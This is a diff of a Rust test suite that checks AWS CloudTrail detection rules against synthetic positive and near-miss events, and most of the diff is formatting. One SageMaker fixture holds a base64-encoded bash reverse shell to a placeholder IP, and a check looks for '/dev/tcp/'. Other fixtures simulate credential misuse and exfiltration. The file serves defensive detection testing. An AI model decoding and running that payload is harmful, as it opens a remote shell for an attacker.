@@ -15,13 +15,16 @@ use crate::detector::AlertDraft;
 use crate::runner::{Runner, RunnerConfig};
 
 fn corpus_dir() -> Option<PathBuf> {
-    let p = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus/detection-rules/rules/integrations");
+    let p = Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("../../../shared/corpus/detection-rules/rules/integrations");
     p.is_dir().then_some(p)
 }
 
 fn load(file: &str) -> Option<Arc<Rule>> {
     let path = corpus_dir()?.join("aws").join(file);
-    Some(Arc::new(Rule::load(&path).unwrap_or_else(|e| panic!("{file}: {e}"))))
+    Some(Arc::new(
+        Rule::load(&path).unwrap_or_else(|e| panic!("{file}: {e}")),
+    ))
 }
 
 const BASE: &str = "2024-06-03T10:00:00Z";
@@ -69,7 +72,8 @@ fn without(mut doc: Value, path: &str) -> Value {
 
 /// Runs the rule over the documents (event ids assigned in order) and returns its alerts.
 fn alerts(rule: &Arc<Rule>, docs: Vec<Value>) -> Vec<AlertDraft> {
-    let det = compile_rule(rule, &CompileContext::default()).unwrap_or_else(|e| panic!("{}: {e}", rule.path));
+    let det = compile_rule(rule, &CompileContext::default())
+        .unwrap_or_else(|e| panic!("{}: {e}", rule.path));
     let mut runner = Runner::new(vec![det], RunnerConfig::default());
     let mut out = Vec::new();
     let mut events: Vec<SharedEvent> = docs
@@ -80,8 +84,20 @@ fn alerts(rule: &Arc<Rule>, docs: Vec<Value>) -> Vec<AlertDraft> {
             if !doc.exists("event.id") {
                 doc.set("event.id", json!(format!("evt-{i:05}")));
             }
-            let timestamp = doc.first("@timestamp").and_then(time::value_to_millis).unwrap_or(0);
-            Arc::new(Event { doc, timestamp, origin: Origin { file: "test.ndjson".into(), record: i as u64 + 1, line: None }, seq: i as u64 })
+            let timestamp = doc
+                .first("@timestamp")
+                .and_then(time::value_to_millis)
+                .unwrap_or(0);
+            Arc::new(Event {
+                doc,
+                timestamp,
+                origin: Origin {
+                    file: "test.ndjson".into(),
+                    record: i as u64 + 1,
+                    line: None,
+                },
+                seq: i as u64,
+            })
         })
         .collect();
     events.sort_by_key(|e| (e.timestamp, e.seq));
@@ -101,7 +117,10 @@ struct Case {
 }
 
 fn field<'a>(a: &'a AlertDraft, name: &str) -> &'a Value {
-    a.fields.as_ref().and_then(|f| f.get(name)).unwrap_or(&Value::Null)
+    a.fields
+        .as_ref()
+        .and_then(|f| f.get(name))
+        .unwrap_or(&Value::Null)
 }
 
 fn no_check(_: &AlertDraft) {}
@@ -117,7 +136,12 @@ fn discovery_cli(n: usize) -> Vec<Value> {
         ("iam.amazonaws.com", "GetAccountSummary"),
         ("lambda.amazonaws.com", "ListFunctions"),
     ];
-    actions.iter().take(n).enumerate().map(|(i, (p, a))| call(1 + i as i64, p, a)).collect()
+    actions
+        .iter()
+        .take(n)
+        .enumerate()
+        .map(|(i, (p, a))| call(1 + i as i64, p, a))
+        .collect()
 }
 
 fn s3_posture(buckets: usize) -> Vec<Value> {
@@ -125,21 +149,42 @@ fn s3_posture(buckets: usize) -> Vec<Value> {
         .map(|i| {
             with(
                 call(1 + (i as i64 % 8), "s3.amazonaws.com", "GetBucketAcl"),
-                &[("aws.cloudtrail.resources", json!([{"arn": format!("arn:aws:s3:::bucket-{i}"), "type": "AWS::S3::Bucket"}]))],
+                &[(
+                    "aws.cloudtrail.resources",
+                    json!([{"arn": format!("arn:aws:s3:::bucket-{i}"), "type": "AWS::S3::Bucket"}]),
+                )],
             )
         })
         .collect()
 }
 
 fn service_quotas(regions: usize) -> Vec<Value> {
-    let names = ["us-east-1", "us-east-2", "us-west-1", "us-west-2", "eu-west-1", "eu-west-2", "eu-central-1", "ap-south-1", "ap-northeast-1", "sa-east-1"];
+    let names = [
+        "us-east-1",
+        "us-east-2",
+        "us-west-1",
+        "us-west-2",
+        "eu-west-1",
+        "eu-west-2",
+        "eu-central-1",
+        "ap-south-1",
+        "ap-northeast-1",
+        "sa-east-1",
+    ];
     (0..10)
         .map(|i| {
             with(
-                call(31 + i as i64, "servicequotas.amazonaws.com", "GetServiceQuota"),
+                call(
+                    31 + i as i64,
+                    "servicequotas.amazonaws.com",
+                    "GetServiceQuota",
+                ),
                 &[
                     ("cloud.region", json!(names[i % regions])),
-                    ("aws.cloudtrail.request_parameters", json!("{serviceCode=ec2, quotaCode=L-1216C47A}")),
+                    (
+                        "aws.cloudtrail.request_parameters",
+                        json!("{serviceCode=ec2, quotaCode=L-1216C47A}"),
+                    ),
                 ],
             )
         })
@@ -148,9 +193,24 @@ fn service_quotas(regions: usize) -> Vec<Value> {
 
 fn ec2_user_data(modify_params: &str) -> Vec<Value> {
     vec![
-        with(call(10, "ec2.amazonaws.com", "StopInstances"), &[("aws.cloudtrail.request_parameters", json!("{instancesSet={items=[{instanceId=i-0abc123def4567890}]}, force=false}"))]),
-        with(call(40, "ec2.amazonaws.com", "ModifyInstanceAttribute"), &[("aws.cloudtrail.request_parameters", json!(modify_params))]),
-        with(call(70, "ec2.amazonaws.com", "StartInstances"), &[("aws.cloudtrail.request_parameters", json!("{instancesSet={items=[{instanceId=i-0abc123def4567890}]}}"))]),
+        with(
+            call(10, "ec2.amazonaws.com", "StopInstances"),
+            &[(
+                "aws.cloudtrail.request_parameters",
+                json!("{instancesSet={items=[{instanceId=i-0abc123def4567890}]}, force=false}"),
+            )],
+        ),
+        with(
+            call(40, "ec2.amazonaws.com", "ModifyInstanceAttribute"),
+            &[("aws.cloudtrail.request_parameters", json!(modify_params))],
+        ),
+        with(
+            call(70, "ec2.amazonaws.com", "StartInstances"),
+            &[(
+                "aws.cloudtrail.request_parameters",
+                json!("{instancesSet={items=[{instanceId=i-0abc123def4567890}]}}"),
+            )],
+        ),
     ]
 }
 
@@ -180,13 +240,21 @@ fn ecr_policy(principal: &str) -> Vec<Value> {
     let text = format!(
         "{{repositoryName=app, policyText={{\"Version\":\"2012-10-17\",\"Statement\":[{{\"Sid\":\"pull\",\"Effect\":\"Allow\",\"Principal\":{principal},\"Action\":[\"ecr:BatchGetImage\"]}}]}}}}"
     );
-    vec![with(call(5, "ecr.amazonaws.com", "SetRepositoryPolicy"), &[("aws.cloudtrail.request_parameters", json!(text))])]
+    vec![with(
+        call(5, "ecr.amazonaws.com", "SetRepositoryPolicy"),
+        &[("aws.cloudtrail.request_parameters", json!(text))],
+    )]
 }
 
 fn bedrock_destructive(bearer: &str) -> Vec<Value> {
     vec![with(
         call(5, "bedrock.amazonaws.com", "DeleteGuardrail"),
-        &[("aws.cloudtrail.additional_eventdata", json!(format!("{{callWithBearerToken={bearer}, inferenceRegion=us-east-1}}")))],
+        &[(
+            "aws.cloudtrail.additional_eventdata",
+            json!(format!(
+                "{{callWithBearerToken={bearer}, inferenceRegion=us-east-1}}"
+            )),
+        )],
     )]
 }
 
@@ -195,8 +263,17 @@ fn ecs_miner(cpu: &str) -> Vec<Value> {
         "{{family=web, containerDefinitions=[{{name=worker, image=docker.io/example/worker:latest, cpu={cpu}, essential=true}}], cpu={cpu}, memory=16384, requiresCompatibilities=[FARGATE]}}"
     );
     vec![
-        with(call(10, "ecs.amazonaws.com", "RegisterTaskDefinition"), &[("aws.cloudtrail.request_parameters", json!(register))]),
-        with(call(60, "ecs.amazonaws.com", "RunTask"), &[("aws.cloudtrail.request_parameters", json!("{cluster=default, taskDefinition=web:1, count=10}"))]),
+        with(
+            call(10, "ecs.amazonaws.com", "RegisterTaskDefinition"),
+            &[("aws.cloudtrail.request_parameters", json!(register))],
+        ),
+        with(
+            call(60, "ecs.amazonaws.com", "RunTask"),
+            &[(
+                "aws.cloudtrail.request_parameters",
+                json!("{cluster=default, taskDefinition=web:1, count=10}"),
+            )],
+        ),
     ]
 }
 
@@ -204,22 +281,38 @@ fn s3_copy(key_account: &str) -> Vec<Value> {
     let params = format!(
         "{{bucketName=victim-data, x-amz-server-side-encryption-aws-kms-key-id=arn:aws:kms:us-east-1:{key_account}:key/0f3c8a1e-2b7d-4c59-9e6a-5d1b2c3d4e5f, Host=victim-data.s3.us-east-1.amazonaws.com, x-amz-server-side-encryption=aws:kms, x-amz-copy-source=victim-data/reports/q1.csv, key=reports/q1.csv}}"
     );
-    vec![with(call(5, "s3.amazonaws.com", "CopyObject"), &[("aws.cloudtrail.request_parameters", json!(params))])]
+    vec![with(
+        call(5, "s3.amazonaws.com", "CopyObject"),
+        &[("aws.cloudtrail.request_parameters", json!(params))],
+    )]
 }
 
 fn s3_static_js(key: &str) -> Vec<Value> {
-    let params = format!("{{bucketName=shop-site, Host=shop-site.s3.us-east-1.amazonaws.com, key={key}}}");
-    vec![with(call(5, "s3.amazonaws.com", "PutObject"), &[("aws.cloudtrail.request_parameters", json!(params))])]
+    let params =
+        format!("{{bucketName=shop-site, Host=shop-site.s3.us-east-1.amazonaws.com, key={key}}}");
+    vec![with(
+        call(5, "s3.amazonaws.com", "PutObject"),
+        &[("aws.cloudtrail.request_parameters", json!(params))],
+    )]
 }
 
 fn unusual_asn(second_action: &str) -> Vec<Value> {
     let mut v: Vec<Value> = (0..200)
-        .map(|i| with(call(i * 60, "s3.amazonaws.com", "GetObject"), &[("source.as.organization.name", json!("Amazon.com, Inc."))]))
+        .map(|i| {
+            with(
+                call(i * 60, "s3.amazonaws.com", "GetObject"),
+                &[("source.as.organization.name", json!("Amazon.com, Inc."))],
+            )
+        })
         .collect();
     for (i, a) in ["GetCallerIdentity", second_action].iter().enumerate() {
         v.push(with(
             call(200 * 60 + i as i64 * 30, "sts.amazonaws.com", a),
-            &[("source.as.organization.name", json!("Evil Hosting LLC")), ("source.address", json!("203.0.113.50")), ("source.ip", json!("203.0.113.50"))],
+            &[
+                ("source.as.organization.name", json!("Evil Hosting LLC")),
+                ("source.address", json!("203.0.113.50")),
+                ("source.ip", json!("203.0.113.50")),
+            ],
         ));
     }
     v
@@ -231,7 +324,10 @@ fn console_logins(second_country: &str) -> Vec<Value> {
         .map(|(c, s)| {
             with(
                 call(*s, "signin.amazonaws.com", "ConsoleLogin"),
-                &[("source.geo.country_iso_code", json!(c)), ("event.category", json!(["authentication"]))],
+                &[
+                    ("source.geo.country_iso_code", json!(c)),
+                    ("event.category", json!(["authentication"])),
+                ],
             )
         })
         .collect()
@@ -243,7 +339,10 @@ fn github_oidc(second_org: &str) -> Vec<Value> {
             call(secs, "s3.amazonaws.com", "ListBuckets"),
             &[
                 ("aws.cloudtrail.user_identity.type", json!("AssumedRole")),
-                ("aws.cloudtrail.user_identity.access_key_id", json!("ASIAGHACTIONS0000001")),
+                (
+                    "aws.cloudtrail.user_identity.access_key_id",
+                    json!("ASIAGHACTIONS0000001"),
+                ),
                 ("user.name", json!("github-deploy-role")),
                 ("user_agent.original", json!(ua)),
                 ("source.as.organization.name", json!(org)),
@@ -251,7 +350,11 @@ fn github_oidc(second_org: &str) -> Vec<Value> {
         )
     };
     vec![
-        base(10, "aws-sdk-nodejs/2.1 linux/v20 configured-with-aws-credentials-for-github-actions", "Microsoft Corporation"),
+        base(
+            10,
+            "aws-sdk-nodejs/2.1 linux/v20 configured-with-aws-credentials-for-github-actions",
+            "Microsoft Corporation",
+        ),
         base(300, "aws-cli/2.15.0 Python/3.11.6 Linux/6.1", second_org),
     ]
 }
@@ -261,7 +364,10 @@ fn session_token(second: (&str, &str, &str)) -> Vec<Value> {
         with(
             call(secs, provider, action),
             &[
-                ("aws.cloudtrail.session_credential_from_console", json!("false")),
+                (
+                    "aws.cloudtrail.session_credential_from_console",
+                    json!("false"),
+                ),
                 ("source.ip", json!(ip)),
                 ("source.address", json!(ip)),
                 ("source.as.organization.name", json!(org)),
@@ -270,8 +376,22 @@ fn session_token(second: (&str, &str, &str)) -> Vec<Value> {
         )
     };
     vec![
-        ev(60, "s3.amazonaws.com", "ListBuckets", "198.51.100.7", "Example ISP", "Seattle"),
-        ev(120, "iam.amazonaws.com", "ListUsers", second.0, second.1, second.2),
+        ev(
+            60,
+            "s3.amazonaws.com",
+            "ListBuckets",
+            "198.51.100.7",
+            "Example ISP",
+            "Seattle",
+        ),
+        ev(
+            120,
+            "iam.amazonaws.com",
+            "ListUsers",
+            second.0,
+            second.1,
+            second.2,
+        ),
     ]
 }
 
@@ -286,14 +406,20 @@ fn k8s_web_identity(post_actions: &[&str]) -> Vec<Value> {
         ],
     );
     // The web identity caller has no access key yet: it receives one in the response.
-    let mut v = vec![without(assume, "aws.cloudtrail.user_identity.access_key_id")];
+    let mut v = vec![without(
+        assume,
+        "aws.cloudtrail.user_identity.access_key_id",
+    )];
     for (i, a) in post_actions.iter().enumerate() {
         v.push(with(
             call(60 + i as i64 * 60, "iam.amazonaws.com", a),
             &[
                 ("aws.cloudtrail.user_identity.type", json!("AssumedRole")),
                 ("aws.cloudtrail.user_identity.access_key_id", json!(key)),
-                ("aws.cloudtrail.user_identity.arn", json!("arn:aws:sts::111111111111:assumed-role/eks-app/pod-session")),
+                (
+                    "aws.cloudtrail.user_identity.arn",
+                    json!("arn:aws:sts::111111111111:assumed-role/eks-app/pod-session"),
+                ),
                 ("user.name", json!("eks-app")),
             ],
         ));
@@ -304,7 +430,11 @@ fn k8s_web_identity(post_actions: &[&str]) -> Vec<Value> {
 fn created_key_for(target: &str) -> Vec<Value> {
     vec![with(
         call(5, "iam.amazonaws.com", "CreateAccessKey"),
-        &[("user.name", json!("admin")), ("user.target.name", json!(target)), ("data_stream.dataset", json!("aws.cloudtrail"))],
+        &[
+            ("user.name", json!("admin")),
+            ("user.target.name", json!(target)),
+            ("data_stream.dataset", json!("aws.cloudtrail")),
+        ],
     )]
 }
 
@@ -323,13 +453,25 @@ fn self_created_key(used_key: &str) -> Vec<Value> {
 
 fn lifecycle_config(b64: &str) -> Vec<Value> {
     vec![with(
-        call(5, "sagemaker.amazonaws.com", "CreateNotebookInstanceLifecycleConfig"),
-        &[("aws.cloudtrail.request_parameters", json!(format!("{{notebookInstanceLifecycleConfigName=nb-setup, onStart=[{{content={b64}}}]}}")))],
+        call(
+            5,
+            "sagemaker.amazonaws.com",
+            "CreateNotebookInstanceLifecycleConfig",
+        ),
+        &[(
+            "aws.cloudtrail.request_parameters",
+            json!(format!(
+                "{{notebookInstanceLifecycleConfigName=nb-setup, onStart=[{{content={b64}}}]}}"
+            )),
+        )],
     )]
 }
 
 fn phantom_user(target: &str) -> Vec<Value> {
-    vec![with(call(5, "iam.amazonaws.com", "CreateLoginProfile"), &[("user.target.name", json!(target))])]
+    vec![with(
+        call(5, "iam.amazonaws.com", "CreateLoginProfile"),
+        &[("user.target.name", json!(target))],
+    )]
 }
 
 fn sagemaker_role(params: &str) -> Vec<Value> {
@@ -337,8 +479,14 @@ fn sagemaker_role(params: &str) -> Vec<Value> {
         call(5, "sagemaker.amazonaws.com", "CreateTrainingJob"),
         &[
             ("aws.cloudtrail.user_identity.type", json!("AssumedRole")),
-            ("aws.cloudtrail.user_identity.arn", json!("arn:aws:sts::111111111111:assumed-role/DataSci/alice")),
-            ("aws.cloudtrail.user_identity.session_context.session_issuer.arn", json!("arn:aws:iam::111111111111:role/DataSci")),
+            (
+                "aws.cloudtrail.user_identity.arn",
+                json!("arn:aws:sts::111111111111:assumed-role/DataSci/alice"),
+            ),
+            (
+                "aws.cloudtrail.user_identity.session_context.session_issuer.arn",
+                json!("arn:aws:iam::111111111111:role/DataSci"),
+            ),
             ("aws.cloudtrail.request_parameters", json!(params)),
         ],
     )]
@@ -355,7 +503,12 @@ const CASES: &[Case] = &[
         file: "discovery_s3_rapid_bucket_posture_api_calls.toml",
         positive: || s3_posture(16),
         near_miss: || s3_posture(15),
-        check: |a| assert_eq!(field(a, "Esql.aws_cloudtrail_resources_arn_count_distinct"), &json!(16)),
+        check: |a| {
+            assert_eq!(
+                field(a, "Esql.aws_cloudtrail_resources_arn_count_distinct"),
+                &json!(16)
+            )
+        },
     },
     Case {
         file: "discovery_servicequotas_multi_region_service_quota_requests.toml",
@@ -363,13 +516,20 @@ const CASES: &[Case] = &[
         near_miss: || service_quotas(9),
         check: |a| {
             assert_eq!(field(a, "Esql.cloud_region_count_distinct"), &json!(10));
-            assert_eq!(field(a, "Esql.time_window_date_trunc"), &json!("2024-06-03T10:00:30.000Z"));
+            assert_eq!(
+                field(a, "Esql.time_window_date_trunc"),
+                &json!("2024-06-03T10:00:30.000Z")
+            );
         },
     },
     Case {
         file: "execution_ec2_stop_start_with_user_data_modification.toml",
-        positive: || ec2_user_data("{instanceId=i-0abc123def4567890, userData=<sensitiveDataRemoved>}"),
-        near_miss: || ec2_user_data("{instanceId=i-0abc123def4567890, instanceType={value=t3.large}}"),
+        positive: || {
+            ec2_user_data("{instanceId=i-0abc123def4567890, userData=<sensitiveDataRemoved>}")
+        },
+        near_miss: || {
+            ec2_user_data("{instanceId=i-0abc123def4567890, instanceType={value=t3.large}}")
+        },
         check: |a| assert_eq!(field(a, "Esql.instance_id"), &json!("i-0abc123def4567890")),
     },
     Case {
@@ -385,7 +545,12 @@ const CASES: &[Case] = &[
         file: "exfiltration_bedrock_high_frequency_inference_api_probing.toml",
         positive: || bedrock_invocations(500),
         near_miss: || bedrock_invocations(499),
-        check: |a| assert_eq!(field(a, "Esql.model_id"), &json!("anthropic.claude-3-sonnet-20240229-v1:0")),
+        check: |a| {
+            assert_eq!(
+                field(a, "Esql.model_id"),
+                &json!("anthropic.claude-3-sonnet-20240229-v1:0")
+            )
+        },
     },
     Case {
         file: "exfiltration_ecr_repository_policy_granted_public_access.toml",
@@ -416,15 +581,32 @@ const CASES: &[Case] = &[
         positive: || s3_copy("999999999999"),
         near_miss: || s3_copy(ACCOUNT),
         check: |a| {
-            assert_eq!(field(a, "Esql.aws_cloudtrail_request_parameters_kms_key_account_id"), &json!("999999999999"));
-            assert_eq!(field(a, "Esql.aws_cloudtrail_request_parameters_target_object_key"), &json!("reports/q1.csv"));
+            assert_eq!(
+                field(
+                    a,
+                    "Esql.aws_cloudtrail_request_parameters_kms_key_account_id"
+                ),
+                &json!("999999999999")
+            );
+            assert_eq!(
+                field(
+                    a,
+                    "Esql.aws_cloudtrail_request_parameters_target_object_key"
+                ),
+                &json!("reports/q1.csv")
+            );
         },
     },
     Case {
         file: "impact_s3_static_site_js_file_uploaded.toml",
         positive: || s3_static_js("assets/static/js/main.4f2a9c.js"),
         near_miss: || s3_static_js("assets/static/js/main.4f2a9c.js.map"),
-        check: |a| assert_eq!(field(a, "Esql.aws_cloudtrail_request_parameters_object_key"), &json!("main.4f2a9c.js")),
+        check: |a| {
+            assert_eq!(
+                field(a, "Esql.aws_cloudtrail_request_parameters_object_key"),
+                &json!("main.4f2a9c.js")
+            )
+        },
     },
     Case {
         file: "initial_access_aws_api_unusual_asn.toml",
@@ -439,7 +621,12 @@ const CASES: &[Case] = &[
         file: "initial_access_console_login_iam_user_multiple_geolocations.toml",
         positive: || console_logins("DE"),
         near_miss: || console_logins("US"),
-        check: |a| assert_eq!(field(a, "Esql.source_geo_country_iso_code_values"), &json!(["DE", "US"])),
+        check: |a| {
+            assert_eq!(
+                field(a, "Esql.source_geo_country_iso_code_values"),
+                &json!(["DE", "US"])
+            )
+        },
     },
     Case {
         file: "initial_access_github_actions_oidc_credentials_used_from_suspicious_network.toml",
@@ -454,14 +641,22 @@ const CASES: &[Case] = &[
         file: "initial_access_iam_session_token_used_from_multiple_addresses.toml",
         positive: || session_token(("203.0.113.9", "Other Net", "Tokyo")),
         near_miss: || session_token(("198.51.100.8", "Example ISP", "Seattle")),
-        check: |a| assert_eq!(field(a, "Esql.activity_type"), &json!("multiple_ip_network_city")),
+        check: |a| {
+            assert_eq!(
+                field(a, "Esql.activity_type"),
+                &json!("multiple_ip_network_city")
+            )
+        },
     },
     Case {
         file: "lateral_movement_k8_assumed_web_identity_session_with_multi_phase_api_use.toml",
         positive: || k8s_web_identity(&["ListRoles", "CreateAccessKey"]),
         near_miss: || k8s_web_identity(&["ListRoles"]),
         check: |a| {
-            assert_eq!(field(a, "aws.cloudtrail.user_identity.access_key_id"), &json!("ASIAK8SPOD0000000001"));
+            assert_eq!(
+                field(a, "aws.cloudtrail.user_identity.access_key_id"),
+                &json!("ASIAK8SPOD0000000001")
+            );
             assert_eq!(field(a, "Esql.post_exploit_count"), &json!(3));
         },
     },
@@ -475,13 +670,26 @@ const CASES: &[Case] = &[
         file: "persistence_iam_user_self_created_access_key_subsequently_used.toml",
         positive: || self_created_key("AKIAALICENEWKEY12345"),
         near_miss: || self_created_key("AKIAALICEOTHERKEY999"),
-        check: |a| assert_eq!(field(a, "Esql_priv.aws_cloudtrail_access_key_id_correlation"), &json!("AKIAALICENEWKEY12345")),
+        check: |a| {
+            assert_eq!(
+                field(a, "Esql_priv.aws_cloudtrail_access_key_id_correlation"),
+                &json!("AKIAALICENEWKEY12345")
+            )
+        },
     },
     Case {
         file: "persistence_sagemaker_lifecycle_config_suspicious_script_content.toml",
-        positive: || lifecycle_config("IyEvYmluL2Jhc2gKYmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNS80NDQ0IDA+JjEK"),
+        positive: || {
+            lifecycle_config(
+                "IyEvYmluL2Jhc2gKYmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNS80NDQ0IDA+JjEK",
+            )
+        },
         near_miss: || lifecycle_config("IyEvYmluL2Jhc2gKcGlwIGluc3RhbGwgcGFuZGFzCg=="),
-        check: |a| assert!(field(a, "Esql_priv.aws_cloudtrail_lifecycle_script").as_str().is_some_and(|s| s.contains("/dev/tcp/"))),
+        check: |a| {
+            assert!(field(a, "Esql_priv.aws_cloudtrail_lifecycle_script")
+                .as_str()
+                .is_some_and(|s| s.contains("/dev/tcp/")))
+        },
     },
     Case {
         file: "privilege_escalation_bedrock_phantom_user_credentials_added.toml",
@@ -491,11 +699,19 @@ const CASES: &[Case] = &[
     },
     Case {
         file: "privilege_escalation_sagemaker_execution_role_passed_by_unusual_principal.toml",
-        positive: || sagemaker_role("{trainingJobName=churn-model, roleArn=arn:aws:iam::111111111111:role/SageMakerExec, enableNetworkIsolation=false}"),
+        positive: || {
+            sagemaker_role("{trainingJobName=churn-model, roleArn=arn:aws:iam::111111111111:role/SageMakerExec, enableNetworkIsolation=false}")
+        },
         near_miss: || sagemaker_role("{trainingJobName=churn-model, enableNetworkIsolation=false}"),
         check: |a| {
-            assert_eq!(field(a, "Esql.principal_arn"), &json!("arn:aws:iam::111111111111:role/DataSci"));
-            assert_eq!(field(a, "Esql.aws_cloudtrail_request_parameters_role_arn"), &json!("arn:aws:iam::111111111111:role/SageMakerExec"));
+            assert_eq!(
+                field(a, "Esql.principal_arn"),
+                &json!("arn:aws:iam::111111111111:role/DataSci")
+            );
+            assert_eq!(
+                field(a, "Esql.aws_cloudtrail_request_parameters_role_arn"),
+                &json!("arn:aws:iam::111111111111:role/SageMakerExec")
+            );
         },
     },
 ];
@@ -511,19 +727,36 @@ fn aws_esql_rules_fire_on_positives_and_not_on_near_misses() {
         let Some(rule) = load(c.file) else { continue };
         let pos = alerts(&rule, (c.positive)());
         if pos.len() != 1 {
-            failures.push(format!("{}: positive produced {} alerts (expected 1)", c.file, pos.len()));
+            failures.push(format!(
+                "{}: positive produced {} alerts (expected 1)",
+                c.file,
+                pos.len()
+            ));
         } else {
             let a = &pos[0];
-            assert!(a.fields.as_ref().is_some_and(|f| !f.is_empty()), "{}: alert without fields", c.file);
+            assert!(
+                a.fields.as_ref().is_some_and(|f| !f.is_empty()),
+                "{}: alert without fields",
+                c.file
+            );
             assert!(a.key.is_some(), "{}", c.file);
-            if let Err(e) = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| (c.check)(a))) {
+            if let Err(e) = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| (c.check)(a)))
+            {
                 let msg = e.downcast_ref::<String>().cloned().unwrap_or_default();
-                failures.push(format!("{}: check failed: {msg}\nfields: {:?}", c.file, a.fields));
+                failures.push(format!(
+                    "{}: check failed: {msg}\nfields: {:?}",
+                    c.file, a.fields
+                ));
             }
         }
         let neg = alerts(&rule, (c.near_miss)());
         if !neg.is_empty() {
-            failures.push(format!("{}: near miss produced {} alerts: {:?}", c.file, neg.len(), neg[0].fields));
+            failures.push(format!(
+                "{}: near miss produced {} alerts: {:?}",
+                c.file,
+                neg.len(),
+                neg[0].fields
+            ));
         }
     }
     assert!(failures.is_empty(), "{}", failures.join("\n\n"));
@@ -553,7 +786,10 @@ fn every_aws_esql_rule_has_an_end_to_end_case_or_a_documented_reason() {
         // The only AWS esql rule without a case queries other rules' alerts.
         match compile_rule(&rule, &CompileContext::default()) {
             Err(CompileError::Unsupported(m)) if m.contains(".alerts-security.*") => {}
-            other => panic!("{f}: no end-to-end case and no documented reason ({:?})", other.err()),
+            other => panic!(
+                "{f}: no end-to-end case and no documented reason ({:?})",
+                other.err()
+            ),
         }
     }
     assert!(esql >= 23, "found {esql} AWS esql rules");
@@ -585,7 +821,9 @@ fn every_integration_esql_rule_compiles_or_names_the_missing_dataset() {
         total += 1;
         match compile_rule(&Arc::new(rule), &CompileContext::default()) {
             Ok(_) => ok += 1,
-            Err(CompileError::Unsupported(m)) if m.contains("selects no data Tripline has") => unserved += 1,
+            Err(CompileError::Unsupported(m)) if m.contains("selects no data Tripline has") => {
+                unserved += 1
+            }
             Err(e) => panic!("{}: {e}", p.display()),
         }
     }
